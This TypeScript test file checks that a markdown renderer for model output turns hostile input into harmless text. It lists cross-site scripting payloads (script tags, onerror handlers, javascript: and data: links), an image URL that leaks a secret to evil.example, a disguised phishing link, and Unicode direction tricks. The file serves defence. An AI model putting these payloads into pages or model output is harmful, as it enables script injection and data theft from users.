import { expect } from 'chai';
import { createElement, Fragment, type ReactNode } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';

// The folder has no `"type": "module"`, so a static import does not compile.
const { drawMarkdown }: { drawMarkdown(text: string): ReactNode[] } = await import(
  new URL('../../../console/parts/markdown/draw.ts', import.meta.url).href
);
const drawn = (text: string): string => renderToStaticMarkup(createElement(Fragment, null, drawMarkdown(text)));

/** Everything that the drawn elements may be. */
const ELEMENTS = /^(p|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|em|strong|s|code|pre|hr|br|h[3-6]|div|a)$/;
const ATTRIBUTES: Readonly<Record<string, RegExp>> = {
  dir: /^auto$/,
  start: /^\d+$/,
  role: /^region$/,
  'aria-label': /^Table$/,
  tabindex: /^0$/,
  style: /^overflow-x:auto$/,
  href: /^https?:/,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow$/,
  referrerpolicy: /^no-referrer$/i,
};

function expectHarmless(html: string): void {
  for (const [, name = '', attributes = ''] of html.matchAll(/<([a-z0-9]+)((?: [^>]*)?)\/?>/gi)) {
    expect(name).to.match(ELEMENTS);
    for (const [, key = '', value = ''] of attributes.matchAll(/([a-z-]+)="([^"]*)"/gi))
      expect(value, `${name} ${key}`).to.match(ATTRIBUTES[key.toLowerCase()] ?? /^never$/);
  }
}

describe('Markdown of a model', () => {
  it('becomes headings, lists, tables and code', () => {
    const text =
      '# One\n\nSome *words* and **more**, ~~less~~, `code`\n\n1. a\n2. b\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n\n```js\nf()\n```';
    expect(drawn(text)).to.equal(
      [
        '<h3 dir="auto">One</h3>',
        '<p dir="auto">Some <em>words</em> and <strong>more</strong>, <s>less</s>, <code>code</code></p>',
        '<ol><li dir="auto">a</li><li dir="auto">b</li></ol>',
        '<div role="region" aria-label="Table" tabindex="0" style="overflow-x:auto"><table>',
        '<thead dir="auto"><tr dir="auto"><th dir="auto">x</th><th dir="auto">y</th></tr></thead>',
        '<tbody dir="auto"><tr dir="auto"><td dir="auto">1</td><td dir="auto">2</td></tr></tbody></table></div>',
        '<pre><code>f()\n</code></pre>',
      ].join(''),
    );
  });

  for (const [what, text, expected] of [
    ['a script', '<script>alert(1)</script>', '<p dir="auto">&lt;script&gt;alert(1)&lt;/script&gt;</p>'],
    [
      'an element in a line',
      'a <img src=x onerror=alert(1)> b',
      '<p dir="auto">a &lt;img src=x onerror=alert(1)&gt; b</p>',
    ],
    [
      'an image',
      '![pixel](https://evil.example/p.gif?q=secret)',
      '<p dir="auto">[image: pixel] (https://evil.example/p.gif?q=secret)</p>',
    ],
    ['a script as a link', '[x](javascript:alert(1))', '<p dir="auto">[x](javascript:alert(1))</p>'],
    ['a hidden script as a link', '[x](&#106;avascript:alert(1))', '<p dir="auto">[x](javascript:alert(1))</p>'],
    [
      'data as a link',
      '[x](data:text/html,<script>1</script>)',
      '<p dir="auto">[x](data:text/html,&lt;script&gt;1&lt;/script&gt;)</p>',
    ],
    ['a link of another scheme', '[x](splunk:run)', '<p dir="auto">x (splunk:run)</p>'],
    ['a relative link', '[x](/en-US/account/logout)', '<p dir="auto">x (/en-US/account/logout)</p>'],
    ['an address of the network', '[x](//evil.example/)', '<p dir="auto">x (//evil.example/)</p>'],
    ['an end of an attribute', '[x](<https://a.example/"onclick="alert(1)>)', undefined],
    ['a title of a link', '[x](https://a.example/ "onclick=alert(1)")', undefined],
    ['a language of code', '```"><script>\nx\n```', '<pre><code>x\n</code></pre>'],
    ['text that turns around', 'safe \u202egpj.exe\u202c', '<p dir="auto">safe [U+202E]gpj.exe[U+202C]</p>'],
    ['text of tags', 'a\u{e0041}b', '<p dir="auto">a[U+E0041]b</p>'],
  ] as const)
    it(`shows ${what} as text, or as a link that does no harm`, () => {
      const html = drawn(text);
      expectHarmless(html);
      if (expected !== undefined) expect(html).to.equal(expected);
    });

  it('shows where a link leads, and opens it apart from the page', () => {
    expect(drawn('[https://bank.example](https://evil.example/)')).to.equal(
      '<p dir="auto"><a href="https://evil.example/" target="_blank" rel="noopener noreferrer nofollow" referrerPolicy="no-referrer">https://bank.example</a> (https://evil.example/)</p>',
    );
    expect(drawn('<https://a.example/>')).to.not.contain('(');
  });

  it('keeps emoji and the letters of all scripts', () => {
    const text = '👩‍👩‍👧 ❤️ नमस्ते שלום';
    expect(drawn(text)).to.equal(`<p dir="auto">${text}</p>`);
  });

  it('does not nest deeper than a page can', () => {
    const texts = [
      '> '.repeat(5000),
      '- '.repeat(5000),
      `${'['.repeat(5000)}x${'](y)'.repeat(5000)}`,
      '*a **b '.repeat(5000),
    ];
    for (const text of texts) {
      const html = drawn(`${text}x`);
      let [depth, deepest] = [0, 0];
      for (const [tag = ''] of html.matchAll(/<\/?[a-z][^>]*>/g)) {
        depth += tag.startsWith('</') ? -1 : /^<[hb]r/.test(tag) ? 0 : 1;
        deepest = Math.max(deepest, depth);
      }
      expect(deepest).to.be.below(100);
      expectHarmless(html);
    }
  });
});
